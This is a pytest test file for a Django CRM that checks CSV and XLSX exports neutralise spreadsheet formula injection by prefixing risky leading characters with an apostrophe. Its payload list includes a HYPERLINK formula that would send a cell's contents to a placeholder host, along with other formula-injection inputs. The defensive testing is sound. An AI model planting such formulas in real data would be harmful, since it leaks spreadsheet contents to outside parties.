"""Formula injection in exports (OWASP ASVS 5.0 V1.2.10): every exported text field whose
value begins with ``= + - @``, a tab, a carriage return or NUL leaves as text prefixed
with ``'``, in CSV and XLSX, read back from the file the admin sends."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.db import connection

from promotion.models import Contact, Prospect
from tests.crm.test_import_export import export

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+1-2", "-cmd", "@SUM(1)", "\tx", "\rx", "\0x"]
# Every text column of each resource (numbers, dates and choices are not free text, but
# the choices and the partner slug are checked too where a value can be forced in).
TEXT_FIELDS = {
    "prospect": [
        "company_name",
        "codename",
        "industry",
        "naics_code",
        "lost_reason",
        "site_needs",
        "notes",
        "country",
        "currency",
        "language",
        "stage",
        "project_type",
        "site_kind",
    ],
    "contact": ["name", "title", "email", "phone", "notes", "language"],
}


def rows_of(response, fmt: str) -> list[dict]:
    if fmt == "0":
        text = response.content.decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text, newline="")))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    rows = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
        rows.append(dict(zip(header, [c.value for c in row], strict=True)))
    return rows


@pytest.mark.parametrize("fmt", ["0", "1"], ids=["csv", "xlsx"])
@pytest.mark.parametrize("model", ["prospect", "contact"])
def test_every_text_field_is_neutralised(client, world, model, fmt):
    client.force_login(world.tj_manager)
    fields = TEXT_FIELDS[model]
    target = world.tj_prospect if model == "prospect" else world.tj_contact
    manager = Prospect.objects if model == "prospect" else Contact.objects
    tried = 0
    # PostgreSQL cannot store NUL in text at all; SQLite can, so the export must cope.
    payloads = [p for p in PAYLOADS if connection.vendor != "postgresql" or "\0" not in p]
    for payload in payloads:
        # Forced in past validation, as an import from elsewhere or the shell could.
        # PostgreSQL holds no more than a column's length (a two-letter country code):
        # the payload is cut to fit, and still starts with the formula character.
        stored = {
            name: payload[: manager.model._meta.get_field(name).max_length or None]
            for name in fields
        }
        manager.filter(pk=target.pk).update(**stored)
        rows = rows_of(export(client, model, fmt), fmt)
        row = next(r for r in rows if str(r["id"]) == str(target.pk))
        for name in fields:
            value = row[name]
            assert isinstance(value, str), (name, value)
            # A lone CR inside a quoted CSV field may come back as LF: still text, still
            # behind the quote.
            # NUL and the other controls XML cannot hold leave as U+FFFD (in both formats).
            sent = "'" + stored[name].replace("\0", "\ufffd")
            assert value in (sent, sent.replace("\r", "\n")), (name, value)
            tried += 1
    assert tried == len(payloads) * len(fields)


@pytest.mark.parametrize("fmt", ["0", "1"], ids=["csv", "xlsx"])
def test_negative_numbers_stay_numbers(client, world, fmt):
    client.force_login(world.tj_manager)
    Prospect.objects.filter(pk=world.tj_prospect.pk).update(capital_investment=-5, estimated_jobs=3)
    rows = rows_of(export(client, "prospect", fmt), fmt)
    row = next(r for r in rows if str(r["id"]) == str(world.tj_prospect.pk))
    assert float(row["capital_investment"]) == -5


@pytest.mark.parametrize("fmt", ["0", "1"], ids=["csv", "xlsx"])
def test_control_characters_do_not_break_the_export(client, world, fmt):
    client.force_login(world.tj_manager)
    Contact.objects.filter(pk=world.tj_contact.pk).update(
        notes="bell\x07 escape\x1b[31m vt\x0b", title="a\x01b"
    )
    rows = rows_of(export(client, "contact", fmt), fmt)
    row = next(r for r in rows if str(r["id"]) == str(world.tj_contact.pk))
    assert row["notes"] == "bell\ufffd escape\ufffd[31m vt\ufffd"
    assert row["title"] == "a\ufffdb"
